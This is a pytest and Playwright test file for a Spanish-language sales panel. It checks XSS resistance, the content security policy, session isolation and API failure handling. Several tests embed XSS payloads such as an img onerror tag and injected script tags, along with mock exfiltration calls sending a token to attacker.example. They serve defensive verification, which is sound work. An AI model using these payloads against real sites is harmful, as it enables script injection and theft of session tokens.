"""The panel under attack, and with an API that is slow, failing or gone."""

import browsers
import pytest
from conftest import PASSWORD
from panel import amount, go, log_in, sell

pytestmark = pytest.mark.slow

MARKUP = "<img src=x onerror=alert(1)>"


def test_markup_in_names_and_addresses_is_only_text(page, ana, carla):
    """Nothing of it runs: the policy would be heard to refuse it."""
    hostile = {"nombre": MARKUP, "apellido": "</script><script>alert(1)</script>", "direccion": MARKUP}
    assert carla.patch("/user/me", json=hostile).status_code == 200
    carla.post("/venta/", json={"venta": 100, "ventas_productos": 1})
    log_in(page, "ana")
    page.get_by_role("cell", name=MARKUP).first.wait_for()
    go(page, "usuarios", "Usuarios")
    page.get_by_role("button", name="Abrir a <img").click()
    page.get_by_role("heading", name=MARKUP).wait_for()
    page.keyboard.press("Escape")
    go(page, "auditoria", "Auditoría")
    page.locator("details summary").first.wait_for()
    page.evaluate("document.querySelectorAll('details').forEach((each) => { each.open = true })")
    assert page.locator("img").count() == 0
    assert page.locator("#panel script").count() == 0


def test_a_hostile_file_is_only_text(page, beto):
    text = f'venta,ventas_productos,creacion\n"{MARKUP}",=1+1,"{"x" * 5000}"\n{"9" * 400},1,\n'
    log_in(page, "beto")
    go(page, "importar", "Importar ventas")
    file = {"name": f"{MARKUP}.csv", "mimeType": "text/csv", "buffer": text.encode() + b"\x00\xff"}
    page.locator("input[type=file]").set_input_files(file)
    page.get_by_text("no se entiende").first.wait_for()
    page.get_by_role("button", name="Importar", exact=True).click()
    page.get_by_text("No se guardó nada").wait_for()
    assert page.locator("img").count() == 0
    assert beto.get("/venta/").json() == []


def test_what_is_injected_does_not_run(chromium, api, beto):
    """As if a defect let an attacker write to the page: inline scripts, handlers, eval, HTML, foreign hosts."""
    context = chromium.new_context(base_url=str(api.base_url).rstrip("/"))
    page = context.new_page()
    log_in(page, "beto")
    refused = page.evaluate("""async () => {
        const refused = [];
        addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
        const attempt = (work) => { try { work(); } catch {} };
        attempt(() => { document.body.innerHTML += "<img src=x onerror='window.stolen = 1'>"; });
        attempt(() => document.body.insertAdjacentHTML("beforeend", "<script>window.stolen = 1</script>"));
        setTimeout(() => attempt(() => eval("window.stolen = 1")));
        const script = document.createElement("script");
        attempt(() => { script.textContent = "window.stolen = 1"; });
        script.append("window.stolen = 1");
        document.body.append(script);
        const button = document.createElement("button");
        attempt(() => button.setAttribute("onclick", "window.stolen = 1"));
        document.body.append(button);
        button.click();
        await fetch("https://attacker.example/", { mode: "no-cors" }).catch(() => {});
        new Image().src = "https://attacker.example/?token";
        navigator.sendBeacon("https://attacker.example/", "token");
        const form = document.createElement("form");
        form.action = "https://attacker.example/";
        document.body.append(form);
        form.submit();
        await new Promise((resolve) => setTimeout(resolve, 200));
        return refused;
    }""")
    assert page.evaluate("window.stolen") is None
    assert {"require-trusted-types-for", "connect-src", "img-src"} <= set(refused)
    assert page.url.endswith("/panel")
    assert page.evaluate("Object.values(sessionStorage).some((text) => text.includes('.eyJ'))") is False
    context.close()


def test_no_other_page_frames_it(api):
    headers = api.get("/panel").headers
    assert "frame-ancestors 'none'" in headers["content-security-policy"]
    assert headers["cross-origin-opener-policy"] == "same-origin"


def test_back_after_a_logout_shows_nothing(page, beto):
    beto.post("/venta/", json={"venta": 123400, "ventas_productos": 1})
    log_in(page, "beto")
    amount(page, "$ 1.234,00")
    go(page, "cuenta/perfil", "Mi cuenta")
    page.get_by_role("button", name="Salir").click()
    page.get_by_role("heading", name="Iniciar sesión").wait_for()
    page.go_back()
    page.get_by_role("heading", name="Iniciar sesión").wait_for()
    page.goto("/")
    page.go_back()
    page.get_by_role("heading", name="Iniciar sesión").wait_for()
    assert "1.234" not in page.content()
    assert "Beto" not in page.content()


def test_the_second_of_two_people_sees_nothing_of_the_first(page, beto, carla):
    beto.post("/venta/", json={"venta": 123400, "ventas_productos": 1})
    log_in(page, "beto")
    amount(page, "$ 1.234,00")
    go(page, "cuenta/perfil", "Mi cuenta")
    page.get_by_role("button", name="Salir").click()
    log_in(page, "carla")
    page.get_by_text("No hay ventas en este período").wait_for()
    go(page, "cuenta/perfil", "Mi cuenta")
    username = page.get_by_role("textbox", name="Usuario")
    username.wait_for()
    assert username.input_value() == "carla"
    assert "Beto" not in page.content()


def test_a_form_outlives_the_session_but_not_for_another_person(page, beto, carla):
    log_in(page, "beto")
    page.get_by_role("button", name="Nueva venta").click()
    page.get_by_role("dialog").get_by_label("Importe").fill("77,70")
    beto.delete("/login/sesiones?todas=true")
    page.get_by_text("Inicie sesión para seguir donde estaba.").wait_for(timeout=15_000)
    assert not page.get_by_role("dialog").is_visible()
    page.get_by_label("Usuario o correo").fill("carla")
    page.get_by_label("Contraseña", exact=True).fill(PASSWORD)
    page.get_by_role("button", name="Entrar").click()
    page.get_by_text("Carla Paz").wait_for()
    assert page.get_by_role("dialog").count() == 0


def test_offline_says_so_and_keeps_what_was_typed(browser, page, beto):
    log_in(page, "beto")
    page.get_by_role("button", name="Nueva venta").click()
    form = page.get_by_role("dialog")
    form.get_by_label("Importe").fill("45,10")
    browser.set_offline(True)
    form.get_by_role("button", name="Guardar la venta").click()
    form.get_by_text("No hay conexión con el servicio").wait_for()
    assert form.get_by_label("Importe").input_value() == "45,10"
    browser.set_offline(False)
    form.get_by_role("button", name="Guardar la venta").click()
    amount(page, "$ 45,10")


def test_a_lost_answer_and_two_clicks_make_one_sale(page, beto):
    """The answer of the first POST never comes back: the second has its key."""
    log_in(page, "beto")
    lost = []

    def lose(route):
        lost.append(route.fetch())
        route.abort()

    page.route("**/venta/", lose, times=1)
    page.get_by_role("button", name="Nueva venta").click()
    form = page.get_by_role("dialog")
    form.get_by_label("Importe").fill("12")
    form.get_by_role("button", name="Guardar la venta").dblclick()
    form.get_by_text("Si vuelve a enviar lo mismo, no se hará dos veces").wait_for()
    form.get_by_role("button", name="Guardar la venta").click()
    amount(page, "$ 12,00")
    assert lost[0].status == 201
    assert len(beto.get("/venta/").json()) == 1


def test_a_busy_api_is_asked_again_and_a_failing_one_is_told(page, beto):
    problem = {
        "detail": "Hay demasiadas peticiones en espera",
        "codigo": "servidor_ocupado",
        "request_id": "r-1",
    }
    log_in(page, "beto")
    sell(page, "5")
    busy = {"status": 503, "headers": {"retry-after": "1"}, "json": problem}
    page.route("**/venta/?*", lambda route: route.fulfill(**busy), times=1)
    page.reload()
    amount(page, "$ 5,00")
    page.route("**/venta/?*", lambda route: route.fulfill(**busy))
    page.reload()
    page.get_by_text("Hay demasiadas peticiones en espera").wait_for(timeout=20_000)
    page.get_by_text("Referencia: r-1").wait_for()
    page.unroute("**/venta/?*")
    page.get_by_role("button", name="Reintentar").click()
    amount(page, "$ 5,00")


def test_an_api_that_is_gone_is_told(page, beto):
    log_in(page, "beto")
    page.route("**/login/sesiones*", lambda route: route.abort())
    go(page, "cuenta/sesiones", "Mi cuenta")
    page.get_by_text("No hay conexión con el servicio").wait_for()


def test_it_works_under_a_path_prefix(chromium, connect):
    api = connect(PUBLIC_URL="http://127.0.0.1/api")
    url = str(api.base_url).rstrip("/")
    with browsers.person(chromium, url) as person:
        page = person.new_page()
        page.goto("/api/panel")
        page.get_by_role("link", name="Regístrese").click()
        for label, text in {
            "Nombre": "Eva",
            "Apellido": "Ruiz",
            "Usuario": "eva",
            "Correo": "eva@example.com",
            "Teléfono": "2604538424",
            "Contraseña": PASSWORD,
        }.items():
            page.get_by_label(label, exact=True).fill(text)
        page.get_by_role("button", name="Crear la cuenta").click()
        page.get_by_role("heading", name="Ventas").wait_for()
        sell(page, "8,50")
        amount(page, "$ 8,50")
